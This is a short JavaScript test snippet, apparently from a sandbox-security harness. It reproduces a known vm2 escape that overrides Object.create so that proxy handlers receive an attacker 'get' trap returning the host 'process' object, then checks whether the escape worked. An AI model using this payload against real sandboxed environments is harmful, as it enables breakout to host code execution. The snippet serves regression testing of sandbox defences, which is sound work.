// Source: vm2 issue #178 (https://github.com/patriksimek/vm2/issues/178), test/vm.js "Object.create
// attack" and docs/ATTACKS.md Category 10.
// Tried: replace Object.create so the handler objects vm2 creates get an attacker `get` trap that
// receives the raw host target.
const out = {};
const oc = Object.create;
let proc;
try {
  Object.create = (p, x) => Object.defineProperty(oc(p, x), 'get', { set() {}, get: () => (t, k, r) => t.constructor('return process')() });
  proc = Buffer.from.process;
} catch (e) { out.error = String(e.message); }
Object.create = oc;
__wr.use(proc, 'Buffer.from.process');
out.type = typeof proc;
return out;
